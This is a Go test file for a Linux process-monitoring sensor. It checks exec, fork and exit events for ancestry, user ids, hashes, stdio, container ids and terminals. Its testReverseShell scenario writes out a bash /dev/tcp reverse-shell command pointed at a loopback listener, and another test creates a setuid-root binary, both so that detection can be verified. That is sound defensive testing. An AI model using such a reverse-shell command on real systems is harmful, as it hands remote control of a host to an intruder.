//go:build linux

package proctest

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/agent/procid"
	"github.com/vigilsec/vigil/internal/agent/proctable/procparse"
	"github.com/vigilsec/vigil/internal/event"
)

// sleepArg returns a unique argument for sleep(1): a long duration with
// random decimals, which finds the sleep's events among the host's.
func sleepArg() string {
	return fmt.Sprintf("6000.%d", time.Now().UnixNano()%1_000_000_000)
}

// startTicks reads the start time of a live process.
func startTicks(t *testing.T, pid int) uint64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		t.Fatal(err)
	}
	st, err := procparse.ParseStat(b)
	if err != nil {
		t.Fatal(err)
	}
	return st.StartTicks
}

// fileSHA256 hashes a file.
func fileSHA256(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// want checks fields of an event: path -> expected string form.
func want(t *testing.T, what string, e event.Event, fields map[string]string) {
	t.Helper()
	for path, v := range fields {
		if got := e.String(path); got != v {
			t.Errorf("%s: %s = %q, want %q\n%s", what, path, got, v, describe(e))
		}
	}
}

// absent checks that fields are not in the event.
func absent(t *testing.T, what string, e event.Event, paths ...string) {
	t.Helper()
	for _, p := range paths {
		if v, ok := e.Get(p); ok {
			t.Errorf("%s: %s = %v, want it absent", what, p, v)
		}
	}
}

// ancestry returns the entity ids of process.ancestry.
func ancestry(e event.Event) []string {
	v, _ := e.Get("process.ancestry")
	list, _ := v.([]any)
	var out []string
	for _, a := range list {
		if m, ok := a.(map[string]any); ok {
			id, _ := m["entity_id"].(string)
			out = append(out, id)
		}
	}
	return out
}

// testProcessTree: a shell runs a shell that runs a sleep. The exec
// events link child to parent by entity id, carry arguments, directory,
// ids, hash and stdio; the exits carry their codes; the table lists the
// live ones.
func testProcessTree(t *testing.T, newSensor func() Sensor, opts Options) {
	h := Start(t, newSensor, opts, "")
	dir := resolve(t, t.TempDir())
	marker := "vigil-tree-" + randomID(6)
	arg := sleepArg()
	script := fmt.Sprintf(`/bin/sh -c "/bin/sleep %s; exit 0" inner-%s; exit 0`, arg, marker)
	outR, outW, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer outR.Close()
	cmd := exec.Command("/bin/sh", "-c", script, "outer-"+marker)
	cmd.Dir, cmd.Stdout = dir, outW
	startCmd(t, cmd)
	outW.Close()

	outerPID := cmd.Process.Pid
	outer := h.Emit.Wait(t, eventWait, "exec of the outer shell", func(e event.Event) bool {
		return Action("exec", outerPID)(e) && hasArg(e, "outer-"+marker)
	})
	inner := h.Emit.Wait(t, eventWait, "exec of the inner shell", func(e event.Event) bool {
		return e.String("event.action") == "exec" && hasArg(e, "inner-"+marker)
	})
	leaf := h.Emit.Wait(t, eventWait, "exec of the sleep", func(e event.Event) bool {
		return e.String("event.action") == "exec" && hasArg(e, arg)
	})
	innerPID, leafPID := Int(inner, "process.pid"), Int(leaf, "process.pid")
	name := h.Sensor.Name()
	self := procid.EntityID(h.HostID, os.Getpid(), startTicks(t, os.Getpid()))
	sleepExe := resolve(t, "/bin/sleep")

	want(t, "outer exec", outer, map[string]string{
		"event.category": "process", "event.dataset": name, "event.kind": "event",
		"process.parent.pid": strconv.Itoa(os.Getpid()), "process.parent.entity_id": self,
		"process.executable": resolve(t, "/bin/sh"), "process.working_directory": dir,
		"process.name": "sh",
	})
	if opts.ExecPath && resolve(t, "/bin/sh") != "/bin/sh" {
		want(t, "outer exec", outer, map[string]string{"vigil.process.exec_path": "/bin/sh"})
	}
	want(t, "inner exec", inner, map[string]string{
		"process.parent.pid": strconv.Itoa(outerPID), "process.parent.entity_id": outer.String("process.entity_id"),
		"process.parent.executable": resolve(t, "/bin/sh"), "process.working_directory": dir,
	})
	want(t, "sleep exec", leaf, map[string]string{
		"process.entity_id":         procid.EntityID(h.HostID, leafPID, startTicks(t, leafPID)),
		"process.parent.pid":        strconv.Itoa(innerPID),
		"process.parent.entity_id":  inner.String("process.entity_id"),
		"process.parent.name":       "sh",
		"process.executable":        sleepExe,
		"process.name":              "sleep",
		"process.working_directory": dir,
		"process.command_line":      "/bin/sleep " + arg,
		"process.args_count":        "2",
		"process.user.id":           "0", "process.user.name": "root",
		"process.real_user.id": "0", "process.group.id": "0", "process.real_group.id": "0",
		"process.parent.user.id": "0", "process.parent.user.name": "root", "process.parent.real_user.id": "0",
		"user.id": "0", "user.name": "root",
		"process.hash.sha256": fileSHA256(t, sleepExe),
	})
	if got := Args(leaf); !slices.Equal(got, []string{"/bin/sleep", arg}) {
		t.Errorf("sleep args %q", got)
	}
	if ev := leaf.String("event.type"); ev != "" {
		t.Errorf("event.type is a string %q, want an array", ev)
	}
	if typ, _ := leaf.Get("event.type"); fmt.Sprint(typ) != "[start]" {
		t.Errorf("event.type %v, want [start]", typ)
	}
	if start, err := time.Parse(time.RFC3339Nano, leaf.String("process.start")); err != nil || time.Since(start) > time.Hour || time.Until(start) > time.Minute {
		t.Errorf("process.start %q", leaf.String("process.start"))
	}
	if leaf.Timestamp().IsZero() {
		t.Errorf("no @timestamp")
	}
	anc := ancestry(leaf)
	wantAnc := []string{inner.String("process.entity_id"), outer.String("process.entity_id"), self}
	if len(anc) < 3 || !slices.Equal(anc[:3], wantAnc) || len(anc) > 10 {
		t.Errorf("ancestry %v, want %v first (at most 10)", anc, wantAnc)
	}
	absent(t, "sleep exec (no terminal)", leaf, "process.tty", "vigil.process.incomplete")
	// stdin is /dev/null; stdout and stderr the test's pipe.
	stdio := fmt.Sprint(leaf["process"].(map[string]any)["stdio"])
	if !strings.Contains(stdio, "fd:1") || !strings.Contains(stdio, "type:pipe") || strings.Contains(stdio, "fd:0") {
		t.Errorf("stdio %s, want fd 1 a pipe and fd 0 absent", stdio)
	}

	// The table lists the sleep with its parent.
	var listed bool
	for _, p := range h.Sensor.Processes() {
		if p.PID == leafPID {
			listed = true
			if p.EntityID != leaf.String("process.entity_id") || p.ParentEntityID != inner.String("process.entity_id") ||
				!slices.Equal(p.Args, []string{"/bin/sleep", arg}) || p.WorkingDir != dir || p.Executable != sleepExe {
				t.Errorf("listed %+v", p)
			}
		}
	}
	if !listed {
		t.Errorf("pid %d not in Processes()", leafPID)
	}

	// End the sleep: each process exits, the sleep by SIGTERM.
	if err := syscall.Kill(leafPID, syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	var leafExit event.Event
	if !opts.NoSignalExits {
		leafExit = h.Emit.Wait(t, eventWait, "exit of the sleep", Action("exit", leafPID))
		want(t, "sleep exit", leafExit, map[string]string{
			"process.entity_id": leaf.String("process.entity_id"), "process.exit_code": "143",
			"vigil.process.exit_signal": "SIGTERM", "process.executable": sleepExe,
		})
		if typ, _ := leafExit.Get("event.type"); fmt.Sprint(typ) != "[end]" {
			t.Errorf("exit event.type %v", typ)
		}
		if d := Int(leafExit, "event.duration"); d <= 0 {
			t.Errorf("exit event.duration %d", d)
		}
	}
	innerExit := h.Emit.Wait(t, eventWait, "exit of the inner shell", Action("exit", innerPID))
	outerExit := h.Emit.Wait(t, eventWait, "exit of the outer shell", Action("exit", outerPID))
	want(t, "inner exit", innerExit, map[string]string{"process.exit_code": "0", "process.entity_id": inner.String("process.entity_id")})
	want(t, "outer exit", outerExit, map[string]string{"process.exit_code": "0", "process.entity_id": outer.String("process.entity_id")})
	for _, e := range []event.Event{outer, inner, leaf, leafExit} {
		if e == nil {
			continue
		}
		if err := checkEncodes(e); err != nil {
			t.Error(err)
		}
	}
	if n := h.Emit.LostCount(); n != 0 {
		t.Logf("the sensor reported %d lost events meanwhile (host activity)", n)
	}
}

// checkEncodes checks that the event, stamped as the runtime would,
// passes the platform's decoding.
func checkEncodes(e event.Event) error {
	c := event.Event{}
	for k, v := range e {
		c[k] = v
	}
	c.Set(event.FieldID, "x")
	c.Set(event.FieldAgentID, "a")
	b, err := json.Marshal(c)
	if err != nil {
		return err
	}
	if len(b) > event.MaxSize {
		return fmt.Errorf("event of %d bytes", len(b))
	}
	_, err = event.Decode(b)
	return err
}

// testForkEvents: in the default mode a fork without exec makes an event
// and a fork followed by an exec does not; with "all" every fork does.
func testForkEvents(t *testing.T, newSensor func() Sensor, opts Options) {
	if opts.NoForks {
		t.Skip("the sensor cannot see forks")
	}
	for _, mode := range []string{"deduplicated", "all"} {
		t.Run(mode, func(t *testing.T) {
			settings := ""
			if mode == "all" {
				settings = `{"fork_events":"all"}`
			}
			h := Start(t, newSensor, opts, settings)
			marker := "vigil-fork-" + randomID(6)
			arg := sleepArg()
			// A subshell forks without exec and exits 7; then a sleep
			// forks and execs.
			cmd := exec.Command("/bin/sh", "-c", fmt.Sprintf("(exit 7); /bin/sleep %s; exit 0", arg), marker)
			startCmd(t, cmd)
			sh := cmd.Process.Pid
			sub := h.Emit.Wait(t, eventWait, "fork of the subshell", func(e event.Event) bool {
				return e.String("event.action") == "fork" && Int(e, "process.parent.pid") == sh
			})
			subPID := Int(sub, "process.pid")
			shExec := h.Emit.Wait(t, eventWait, "exec of the shell", Action("exec", sh))
			want(t, "subshell fork", sub, map[string]string{
				"process.parent.entity_id": shExec.String("process.entity_id"),
				"process.executable":       resolve(t, "/bin/sh"), "process.name": "sh",
			})
			if typ, _ := sub.Get("event.type"); fmt.Sprint(typ) != "[start]" {
				t.Errorf("fork event.type %v", typ)
			}
			exit := h.Emit.Wait(t, eventWait, "exit of the subshell", Action("exit", subPID))
			want(t, "subshell exit", exit, map[string]string{"process.exit_code": "7", "process.entity_id": sub.String("process.entity_id")})
			leaf := h.Emit.Wait(t, eventWait, "exec of the sleep", func(e event.Event) bool {
				return e.String("event.action") == "exec" && hasArg(e, arg)
			})
			leafPID := Int(leaf, "process.pid")
			// A fork still waiting for an exec goes out before its
			// process's exit: after the exit, every fork event is in.
			if err := syscall.Kill(leafPID, syscall.SIGTERM); err != nil {
				t.Fatal(err)
			}
			h.Emit.Wait(t, eventWait, "exit of the sleep", Action("exit", leafPID))
			forks := h.Emit.Events(Action("fork", leafPID))
			switch mode {
			case "all":
				if len(forks) != 1 || forks[0].String("process.entity_id") != leaf.String("process.entity_id") {
					t.Errorf("%d fork events for the sleep, want 1 with its entity id", len(forks))
				}
			default:
				if len(forks) != 0 {
					t.Errorf("a fork event for the sleep, which the exec tells: %s", describe(forks[0]))
				}
				if h.Sensor.StreamStats().ForksFolded == 0 {
					t.Error("no fork counted as folded")
				}
			}
		})
	}
}

// testSetuid: a setuid-root copy of sleep run by a shell of nobody's
// has effective uid 0 and real uid 65534, and its parent (the shell) is
// nobody: what a rule looking for root children of unprivileged parents
// sees.
func testSetuid(t *testing.T, newSensor func() Sensor, opts Options) {
	if _, err := exec.LookPath("setpriv"); err != nil {
		requireKernel(t, false, "setpriv (util-linux) is not installed")
	}
	h := Start(t, newSensor, opts, "")
	dir, err := os.MkdirTemp("", "vigil-suid-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "suid-sleep")
	src, err := os.ReadFile(resolve(t, "/bin/sleep"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, src, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(bin, 0, 0); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(bin, 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	arg := sleepArg()
	// The shell runs the sleep in a child of its own (a command that is
	// not its last is not exec'd in its place).
	cmd := exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
		"/bin/sh", "-c", `"$0" "$1"; exit $?`, bin, arg)
	startCmd(t, cmd)
	// A sensor that reads /proc after the fact (proccon) may handle an
	// exec only once the process already runs another image: that event
	// is flagged incomplete; the sleep's own exec, read while it sleeps,
	// is the one to check.
	e := h.Emit.Wait(t, eventWait, "exec of the setuid sleep", func(e event.Event) bool {
		_, incomplete := e.Get("vigil.process.incomplete")
		return e.String("event.action") == "exec" && e.String("process.executable") == bin && !incomplete
	})
	want(t, "setuid exec", e, map[string]string{
		"process.user.id": "0", "process.user.name": "root", "user.id": "0",
		"process.real_user.id": "65534", "process.real_user.name": "nobody",
		"process.real_group.id": "65534", "process.group.id": "65534",
		"process.hash.sha256": fileSHA256(t, bin),
		"process.parent.pid":  strconv.Itoa(cmd.Process.Pid), "process.parent.name": "sh",
		"process.parent.user.id": "65534", "process.parent.user.name": "nobody",
		"process.parent.real_user.id": "65534", "process.parent.real_user.name": "nobody",
	})
	if got := Args(e); !slices.Equal(got, []string{bin, arg}) {
		t.Errorf("args %q", got)
	}
}

// testContainer: a process moved into a cgroup named like a Docker
// container's before its exec carries the container id.
func testContainer(t *testing.T, newSensor func() Sensor, opts Options) {
	mnt := cgroup2Mount()
	requireKernel(t, mnt != "", "no cgroup2 hierarchy is mounted")
	h := Start(t, newSensor, opts, "")
	id := randomID(32)
	cg := filepath.Join(mnt, "docker-"+id+".scope")
	if err := os.Mkdir(cg, 0o755); err != nil {
		requireKernel(t, false, fmt.Sprintf("cannot create a cgroup: %v", err))
	}
	arg := sleepArg()
	cmd := exec.Command("/bin/sh", "-c", fmt.Sprintf(`echo $$ > %s/cgroup.procs && exec /bin/sleep %s`, cg, arg))
	startCmd(t, cmd)
	t.Cleanup(func() {
		// Registered after startCmd's: runs first, so kill here too.
		killGroup(cmd)
		deadline := time.Now().Add(stopWait)
		for os.Remove(cg) != nil && time.Now().Before(deadline) {
			time.Sleep(50 * time.Millisecond)
		}
		if _, err := os.Stat(cg); err == nil {
			t.Errorf("cgroup %s left behind", cg)
		}
	})
	e := h.Emit.Wait(t, eventWait, "exec of the sleep in the cgroup", func(e event.Event) bool {
		return e.String("event.action") == "exec" && hasArg(e, arg)
	})
	want(t, "container exec", e, map[string]string{"container.id": id, "container.runtime": "docker"})
}

// cgroup2Mount returns where the unified cgroup hierarchy is mounted.
func cgroup2Mount() string {
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		return ""
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		for i, fld := range fields {
			if fld == "-" && i+1 < len(fields) && fields[i+1] == "cgroup2" && len(fields) > 4 {
				return fields[4]
			}
		}
	}
	return ""
}

// testReverseShell: bash with its stdio on a TCP connection to a listener
// on loopback; the exec event shows fds 0-2 as that connection.
func testReverseShell(t *testing.T, newSensor func() Sensor, opts Options) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		requireKernel(t, false, "bash is not installed")
	}
	h := Start(t, newSensor, opts, "")
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	cmd := exec.Command(bash, "-c", fmt.Sprintf("exec bash -i </dev/tcp/127.0.0.1/%d >&0 2>&0", port))
	startCmd(t, cmd)
	_ = ln.(*net.TCPListener).SetDeadline(time.Now().Add(eventWait))
	conn, err := ln.Accept()
	if err != nil {
		t.Fatalf("the shell did not connect: %v", err)
	}
	defer conn.Close()
	e := h.Emit.Wait(t, eventWait, "exec of the interactive bash", func(e event.Event) bool {
		return Action("exec", cmd.Process.Pid)(e) && slices.Equal(Args(e), []string{"bash", "-i"})
	})
	v, _ := e.Get("process.stdio")
	list, _ := v.([]any)
	if len(list) != 3 {
		t.Fatalf("process.stdio %v, want fds 0-2\n%s", v, describe(e))
	}
	remote := fmt.Sprintf("127.0.0.1:%d", port)
	local := conn.RemoteAddr().String()
	for i, x := range list {
		m, _ := x.(map[string]any)
		if fmt.Sprint(m["fd"]) != strconv.Itoa(i) || m["type"] != "socket" || m["transport"] != "tcp" ||
			m["remote"] != remote || m["local"] != local {
			t.Errorf("stdio %d = %v, want a tcp socket %s -> %s", i, m, local, remote)
		}
	}
	want(t, "reverse shell", e, map[string]string{"process.executable": resolve(t, bash), "process.name": "bash"})
	if _, err := conn.Write([]byte("exit 0\n")); err != nil {
		t.Fatal(err)
	}
	h.Emit.Wait(t, eventWait, "exit of the reverse shell", Action("exit", cmd.Process.Pid))
}

// testTerminal: a command run on a pseudo-terminal (by script(1)) has
// it as its terminal.
func testTerminal(t *testing.T, newSensor func() Sensor, opts Options) {
	if _, err := exec.LookPath("script"); err != nil {
		requireKernel(t, false, "script (util-linux) is not installed")
	}
	h := Start(t, newSensor, opts, "")
	arg := sleepArg()
	cmd := exec.Command("script", "-q", "-c", "/bin/sleep "+arg, "/dev/null")
	startCmd(t, cmd)
	e := h.Emit.Wait(t, eventWait, "exec of the sleep on a terminal", func(e event.Event) bool {
		return e.String("event.action") == "exec" && hasArg(e, arg)
	})
	pid := Int(e, "process.pid")
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		t.Fatal(err)
	}
	st, err := procparse.ParseStat(b)
	if err != nil {
		t.Fatal(err)
	}
	tty := procparse.TTYName(st.TTYNr)
	if !strings.HasPrefix(tty, "pts/") {
		t.Fatalf("the sleep's terminal is %q, want a pts", tty)
	}
	want(t, "sleep on a terminal", e, map[string]string{"process.tty.name": tty})
}

// testShortLived: commands that exit at once. Their exec events are
// complete (eBPF), or complete or flagged incomplete and counted.
func testShortLived(t *testing.T, newSensor func() Sensor, opts Options) {
	h := Start(t, newSensor, opts, "")
	dir := resolve(t, t.TempDir())
	marker := "vigil-short-" + randomID(6)
	const runs = 20
	list := strings.TrimSpace(strings.Repeat("x ", runs))
	cmd := exec.Command("/bin/sh", "-c", fmt.Sprintf("for i in %s; do /bin/echo %s a b; done; exit 0", list, marker))
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	var evs []event.Event
	deadline := time.Now().Add(eventWait)
	for len(evs) < runs && time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
		evs = h.Emit.Events(func(e event.Event) bool {
			// Only echo runs below the shell; an incomplete event may
			// not know the new name.
			return e.String("event.action") == "exec" && Int(e, "process.parent.pid") == cmd.Process.Pid
		})
	}
	lost := h.Emit.LostCount()
	if len(evs) < runs && lost == 0 {
		t.Fatalf("%d exec events of %d echo runs, and no loss reported (counters %v)", len(evs), runs, h.Sensor.Counters())
	}
	incomplete := 0
	echo := resolve(t, "/bin/echo")
	for _, e := range evs {
		complete := e.String("process.executable") == echo && slices.Equal(Args(e), []string{"/bin/echo", marker, "a", "b"}) &&
			e.String("process.working_directory") == dir
		flagged := e.String("vigil.process.incomplete") == "true"
		switch {
		case complete && !flagged:
		case flagged && !opts.ShortLivedComplete:
			incomplete++
			if missing, _ := e.Get("vigil.process.missing"); fmt.Sprint(missing) == "[]" {
				t.Errorf("incomplete without saying what is missing: %s", describe(e))
			}
		default:
			t.Errorf("exec event neither complete nor flagged: %s", describe(e))
		}
	}
	if got := h.Sensor.StreamStats().Incomplete; got < uint64(incomplete) {
		t.Errorf("%d incomplete events, the sensor counted %d", incomplete, got)
	}
	t.Logf("%d of %d short-lived exec events complete, %d flagged incomplete, %d lost", len(evs)-incomplete, len(evs), incomplete, lost)
}

// testCounters: the sensor's counters have snake_case names, tell the
// table's size and count the execs and exits it sees; totals only grow.
func testCounters(t *testing.T, newSensor func() Sensor, opts Options) {
	h := Start(t, newSensor, opts, "")
	before := h.Sensor.Counters()
	for name := range before {
		if strings.Trim(name, "abcdefghijklmnopqrstuvwxyz0123456789_") != "" {
			t.Errorf("counter %q is not snake_case", name)
		}
	}
	if before["processes"] == 0 || before["execs"] == 0 {
		t.Errorf("counters after the ready marker ran: %v, want processes and execs", before)
	}
	marker := "vigil-counters-" + randomID(6)
	cmd := exec.Command("/bin/sh", "-c", "exit 0", marker)
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	h.Emit.Wait(t, eventWait, "exit of the marker", Action("exit", cmd.Process.Pid))
	after := h.Sensor.Counters()
	if after["execs"] <= before["execs"] || after["exits"] <= before["exits"] {
		t.Errorf("counters %v after an exec and an exit, %v before", after, before)
	}
	for name, n := range before {
		if name != "processes" && name != "exited_processes" && after[name] < n {
			t.Errorf("counter %s went down from %d to %d", name, n, after[name])
		}
	}
}

// testMultiThreadedExit: a process with many threads (a Go program: this
// test binary) exits once, with its code.
func testMultiThreadedExit(t *testing.T, newSensor func() Sensor, opts Options) {
	h := Start(t, newSensor, opts, "")
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), helperEnv+"=exit5")
	err := cmd.Run()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 5 {
		t.Fatalf("helper: %v (call proctest.HelperMain from TestMain)", err)
	}
	e := h.Emit.Wait(t, eventWait, "exit of the helper", Action("exit", cmd.Process.Pid))
	want(t, "helper exit", e, map[string]string{"process.exit_code": "5"})
	time.Sleep(time.Second)
	if n := len(h.Emit.Events(Action("exit", cmd.Process.Pid))); n != 1 {
		t.Errorf("%d exit events for one multi-threaded process", n)
	}
}

// testSettings: bad settings are refused with a reason; good ones taken.
func testSettings(t *testing.T, newSensor func() Sensor, _ Options) {
	s := newSensor()
	for _, bad := range []string{`{"fork_events":"some"}`, `{"unknown":1}`, `{"fork_window":"1h"}`,
		`{"hash_wait":"-1s"}`, `{"hash_max_mib":-1}`, `[]`, `{"fork_window":5}`, `{} {}`} {
		if err := s.ApplySettings([]byte(bad)); err == nil {
			t.Errorf("settings %s accepted", bad)
		}
	}
	for _, good := range []string{``, `{}`, `{"fork_events":"none","fork_window":"1s","hash_wait":"0s","hash_max_mib":16}`} {
		if err := s.ApplySettings([]byte(good)); err != nil {
			t.Errorf("settings %q refused: %v", good, err)
		}
	}
}

// helperEnv names the variable that turns the test binary into a helper
// process (HelperMain).
const helperEnv = "VIGIL_PROCTEST_HELPER"

// HelperMain makes the test binary act as a helper process when the
// scenarios start it; a sensor package's TestMain calls it first.
func HelperMain() {
	switch os.Getenv(helperEnv) {
	case "":
		return
	case "exit5":
		// Several threads run when the process exits.
		done := make(chan struct{})
		for range 8 {
			go func() {
				runtime.LockOSThread()
				<-done
			}()
		}
		time.Sleep(100 * time.Millisecond)
		os.Exit(5)
	}
	os.Exit(2)
}
